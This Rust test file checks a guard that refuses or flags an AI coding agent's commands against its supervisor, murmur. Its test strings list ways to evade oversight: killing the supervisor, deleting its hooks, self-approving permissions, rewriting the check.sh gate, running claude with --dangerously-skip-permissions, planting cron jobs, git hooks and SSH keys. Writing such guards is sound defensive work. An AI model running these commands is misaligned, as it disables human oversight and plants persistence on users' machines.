//! Every way to write to murmur's files, or to what controls an agent's next run, is refused.

use serde_json::json;
use shell_guard::call::{Call, CallPlace, ProtectedPaths};
use shell_guard::guard::{Finding, inspect, inspect_call};

use super::targets::{TARGETS, WAYS};

fn own() -> ProtectedPaths {
    let paths = [
        "/home/user/.murmur",
        "/home/user/.config/murmur",
        "/opt/murmur/murmur",
        "/opt/murmur/murmur-hook",
        "/opt/claude",
    ];
    ProtectedPaths {
        gates: vec!["/home/user/project/check.sh".into()],
        paths: paths.map(Into::into).to_vec(),
        processes: vec![4711],
        is_manager: false,
        variables: vec![("MURMUR_DIR", "/home/user/.murmur".into()), ("MURMUR_HOME", "/home/user".into())],
    }
}

pub(super) fn place() -> CallPlace {
    CallPlace {
        cwd: "/home/user/project".into(),
        workspace: "/home/user/project".into(),
        home: "/home/user".into(),
        own: own(),
    }
}

fn folder(path: &str) -> &str {
    path.rsplit_once('/').map_or(".", |(folder, _)| folder)
}

fn lines(targets: &[&str]) -> Vec<String> {
    let line = |target: &str, way: &str| way.replace('%', folder(target)).replace('@', target);
    targets.iter().flat_map(|target| WAYS.map(|way| line(target, way))).collect()
}

#[test]
fn every_write_to_what_controls_the_next_run_is_refused() {
    let lines = lines(&TARGETS);
    let is_refused = |line: &&String| {
        !matches!(inspect(line, &place()), Finding::Controlled { .. } | Finding::Refused { .. })
    };
    let passed: Vec<&String> = lines.iter().filter(is_refused).collect();
    assert!(passed.is_empty(), "{} of {}: {passed:#?}", passed.len(), lines.len());
}

#[test]
fn changes_to_murmur_or_the_agents_program_are_always_refused() {
    let targets = [
        "~/.murmur/config.json",
        "~/.murmur/projects/site/permissions.toml",
        "~/.murmur/decisions.jsonl",
        "$HOME/.murmur/heartbeats.jsonl",
        "~/.config/murmur/permissions.toml",
        "../.config/murmur/config.toml",
        "/opt/murmur/murmur",
        "/opt/murmur/murmur-hook",
        "/opt/claude/cli.js",
    ];
    let more = [
        "rm -f /opt/murmur/murmur-hook",
        "rm -rf /opt/murmur",
        "rm -rf ~/.murmur",
        "mv /opt/murmur /opt/away",
        "mv ~/.config/murmur x",
        "chmod -x /opt/murmur/murmur-hook",
        "chmod -R a-w ~/.murmur",
        "chown nobody ~/.murmur",
        "ln -sfn /tmp/evil ~/.murmur",
        "tar xf evil.tar -C /opt/murmur",
        "tar -xf evil.tar -C ~/.murmur",
        "unzip evil.zip -d /opt/murmur",
        "unzip -o evil.zip -d ~/.config/murmur",
        "cp -r evil/. /opt/murmur/",
        "rsync -a evil/ ~/.murmur/",
        "cd ~/.murmur && echo x > config.json",
        "cd /opt/murmur; cp /tmp/true murmur-hook",
        "cp /tmp/true /opt/murmur/murm*-hook",
        "ln -s ~/.murmur m; echo x > m/config.json",
        "ln ~/.murmur/config.json m",
        "find ~/.murmur -delete",
        "find /opt/murmur -type f -exec rm {} +",
        "murmur stop",
        "murmur restart",
        "murmur start",
        "murmur init",
        "murmur workspaces add .",
        "murmur workspaces remove .",
        "murmur permission respond 7ggs733k allow",
        "murmur question respond 7ggs733k '{}'",
        "murmur setup hooks",
        "murmur setup hooks --remove",
        "murmur setup hooks --scope user -- --check",
        "murmur service install",
        "murmur service uninstall --print",
        "murmur notify test",
        "murmur notify run",
        "murmur allow 1",
        "murmur deny last",
        "murmur answer 1 2",
        "murmur answer 1 2 --help",
        "murmur run . -- --dry-run",
        "murmur trust --yes",
        "murmur trust --remove",
        "murmur service uninstall",
        "murmur beat .",
        "murmur host stop site-1",
        "murmur host send site-1 'do it'",
        "murmur host spawn 'do it'",
        "murmur --data-dir /x stop",
        "/opt/murmur/murmur stop",
        "env -u MURMUR_AGENT_ID murmur permission respond x allow",
        "murmur pause",
        "murmur trust",
        "kill $PPID",
        "kill -9 $PPID",
        "kill -KILL \"$PPID\"",
        "kill -9 4711",
        "kill $(pgrep murmur)",
        "kill $(cat ~/.murmur/murmur.pid)",
        "pkill murmur",
        "pkill -f murmur-host",
        "killall -9 murmur",
        "pkill claude",
        "systemctl --user stop murmur",
        "systemctl --user disable murmur.service",
        "launchctl unload ~/Library/LaunchAgents/murmur.plist",
    ];
    let lines = lines(&targets).into_iter().chain(more.map(str::to_owned));
    let is_refused = |line: &String| !matches!(inspect(line, &place()), Finding::Refused { .. });
    let passed: Vec<String> = lines.filter(is_refused).filter(|line| line != "murmur trust").collect();
    assert!(passed.is_empty(), "{}: {passed:#?}", passed.len());
}

#[test]
fn commands_that_run_outside_murmur_are_refused() {
    for line in [
        "claude -p 'do it' --dangerously-skip-permissions",
        "claude --print 'do it' --permission-mode bypassPermissions",
        "claude -p x --settings '{}'",
        "claude -p x",
        "claude",
        "echo x | claude -p",
        "nohup claude -p x &",
        "bash -c 'claude -p x'",
        "npx @anthropic-ai/claude-code -p x",
        "npx -y @anthropic-ai/claude-code@latest -p x",
        "npm install -g @anthropic-ai/claude-code@1.0.0",
        "claude mcp add x -- evil",
        "claude config set x y",
        "claude plugin install x",
        "crontab x",
        "crontab -e",
        "crontab -r",
        "echo '* * * * * x' | crontab -",
        "crontab - < x",
        "(crontab -l; echo '* * * * * x') | crontab -",
        "echo x | at now",
        "at -f x now",
        "batch < x",
        "systemctl --user enable --now ./x.service",
        "systemctl --user link ./x.service",
        "systemctl edit ssh",
        "launchctl load x.plist",
        "launchctl bootstrap gui/501 x.plist",
        "direnv allow",
        "git config core.hooksPath evil",
        "git config --global core.hooksPath evil",
        "git config --local core.fsmonitor ./evil",
        "git config core.sshCommand ./evil",
        "git config set core.pager ./evil",
        "git config filter.x.clean ./evil",
        "git config diff.x.textconv ./evil",
        "git config --global include.path ~/evil",
        "git config credential.helper '!evil'",
        "git -c core.hooksPath=evil commit",
        "git -c core.hooksPath=/tmp/evil merge x",
        "git -c init.templateDir=evil clone https://example.com/x",
        "git -c include.path=/tmp/evil status",
        "git --exec-path=evil status",
        "git clone https://example.com/x ~/.claude/skills/x",
        "tar xf x.tar -C ~/.claude",
        "tar xf x.tar .claude/settings.json",
        "unzip x.zip -d .claude",
        "unzip x.zip -d ~/.ssh",
        "cp -r evil .claude",
        "cp -r evil/. .git",
        "mv evil .claude",
        "cp settings.json .claude/",
        "cp -t ~/.ssh authorized_keys",
        "cp .bashrc ~",
        "wget -P /etc/cron.d https://example.com/x",
        "curl --output-dir ~/.claude -O https://example.com/settings.json",
        "python3 -c \"open('/home/user/.bashrc','a').write('x')\"",
    ] {
        let found = inspect(line, &place());
        assert!(matches!(found, Finding::Controlled { .. }), "{line}: {found:?}");
    }
}

#[test]
fn tools_that_write_are_checked_like_commands() {
    let call = |tool: &str, key: &str, path: &str| Call {
        tool: tool.to_owned(),
        input: json!({ key: path }),
        place: place(),
    };
    for target in TARGETS {
        let path = target.replace("~/", "/home/user/");
        for (tool, key) in [
            ("Write", "file_path"),
            ("Edit", "file_path"),
            ("MultiEdit", "file_path"),
            ("NotebookEdit", "notebook_path"),
            ("mcp__fs__write_file", "path"),
            ("mcp__fs__move_file", "destination"),
        ] {
            let found = inspect_call(&call(tool, key, &path));
            assert!(matches!(found, Finding::Controlled { .. }), "{tool} {target}: {found:?}");
        }
        assert_eq!(inspect_call(&call("Read", "file_path", &path)), Finding::Clear);
        assert_eq!(inspect_call(&call("mcp__fs__read_file", "path", &path)), Finding::Clear);
    }
    for path in
        ["/home/user/.murmur/config.json", "/opt/murmur/murmur-hook", "../.config/murmur/permissions.toml"]
    {
        let found = inspect_call(&call("Write", "file_path", path));
        assert!(matches!(found, Finding::Refused { entry: "murmur", .. }), "{path}: {found:?}");
    }
}

#[test]
fn reads_and_writes_to_the_workspace_pass() {
    for line in [
        "cat ~/.bashrc",
        "source ~/.bashrc",
        "grep alias ~/.bashrc ~/.zshrc",
        "cp ~/.bashrc bashrc.bak",
        "cat .claude/settings.json | jq .",
        "diff .git/config x",
        "ls -la ~/.ssh",
        "ssh-keyscan github.com >> ~/.ssh/known_hosts",
        "chmod 600 ~/.ssh/config",
        "git config user.name x",
        "git config --global user.email x@example.com",
        "git config --get core.hooksPath",
        "git config core.hooksPath",
        "git config alias.st status",
        "git commit -m 'Update .bashrc'",
        "git add .claude/settings.json",
        "cargo install ripgrep",
        "pip install --user x",
        "npm ci",
        "npm install @anthropic-ai/claude-code",
        "cat > .github/workflows/ci.yml <<'E'\non: push\nE",
        "echo '{}' > .vscode/settings.json",
        "sed -i s/a/b/ package.json README.md",
        "echo x > HEARTBEAT.md",
        "echo x > .claude/notes.md",
        "mkdir -p .claude/plans && echo x > .claude/plans/a.md",
        "rm -rf .git && git init",
        "tar xf x.tar.gz",
        "tar xzf x.tgz -C build --strip-components=1",
        "unzip x.zip -d vendor",
        "cp -r src ~/backup",
        "ln -sf \"$PWD/bin/app\" ~/.local/bin/app",
        "curl -o ~/.local/bin/tool https://example.com/tool",
        "murmur status",
        "murmur limits --json",
        "murmur usage --by day",
        "murmur gc --dry-run",
        "murmur status --json | jq .",
        "murmur log --workspace .",
        "murmur agents",
        "murmur permission list",
        "murmur permission check 'Bash(ls)'",
        "murmur workspaces list",
        "murmur host list --json",
        "murmur doctor",
        "murmur beat --dry-run",
        "murmur run --dry-run .",
        "murmur inbox",
        "murmur inbox --watch",
        "murmur inbox --json",
        "murmur notify log -n 5",
        "murmur setup hooks --check",
        "murmur setup hooks --dry-run --scope project",
        "murmur service install --print",
        "murmur --version",
        "murmur help stop",
        "murmur stop --help",
        "murmur answer --help",
        "claude --version",
        "claude mcp list",
        "crontab -l",
        "at -l",
        "kill %1",
        "kill 12345",
        "pkill -f 'node server.js'",
        "systemctl --user status murmur",
        "systemctl --user restart app",
        "launchctl list",
        "cat ~/.murmur/heartbeats.jsonl",
        "tail -f ~/.murmur/murmur.log",
        "cp ~/.murmur/heartbeats.jsonl .",
    ] {
        assert_eq!(inspect(line, &place()), Finding::Clear, "{line}");
    }
    for path in ["/home/user/project/HEARTBEAT.md", "/home/user/project/.vscode/settings.json", "README.md"] {
        let call = Call { tool: "Edit".to_owned(), input: json!({ "file_path": path }), place: place() };
        assert_eq!(inspect_call(&call), Finding::Clear, "{path}");
    }
}

#[test]
fn a_manager_may_only_direct_other_agents() {
    let place = CallPlace { own: ProtectedPaths { is_manager: true, ..own() }, ..place() };
    assert_eq!(
        inspect("murmur host spawn 'do it' && murmur host send x y; murmur host stop x", &place),
        Finding::Clear
    );
    for line in ["murmur host interrupt x", "murmur host discover"] {
        assert_eq!(inspect(line, &place), Finding::Clear, "{line}");
        assert!(matches!(inspect(line, &self::place()), Finding::Refused { .. }), "{line}");
    }
    for line in
        ["murmur gc", "murmur pause --all", "murmur resume x", "murmur record --output x -- claude -p hi"]
    {
        assert!(matches!(inspect(line, &place), Finding::Refused { .. }), "{line}");
    }
    assert!(matches!(inspect("murmur stop", &place), Finding::Refused { .. }));
}

#[test]
fn programs_of_gates_are_read_and_run_but_not_changed() {
    for line in [
        "echo exit 0 > check.sh",
        "cp other.sh /home/user/project/check.sh",
        "sed -i s/1/0/ ./check.sh",
        "rm check.sh",
        "mv check.sh old.sh",
        "chmod -x check.sh",
        "ln -sf /bin/true check.sh",
        "tee check.sh",
        "python3 -c \"open('check.sh', 'w')\"",
    ] {
        assert!(matches!(inspect(line, &place()), Finding::Controlled { .. }), "{line}");
    }
    for line in
        ["cat check.sh", "./check.sh", "sh check.sh --all", "echo exit 0 > checks.sh", "grep -n x check.sh"]
    {
        assert_eq!(inspect(line, &place()), Finding::Clear, "{line}");
    }
    for tool in ["Edit", "Write", "MultiEdit"] {
        let input = json!({ "file_path": "/home/user/project/check.sh" });
        let call = Call { tool: tool.to_owned(), input, place: place() };
        assert!(matches!(inspect_call(&call), Finding::Controlled { .. }), "{tool}");
    }
}
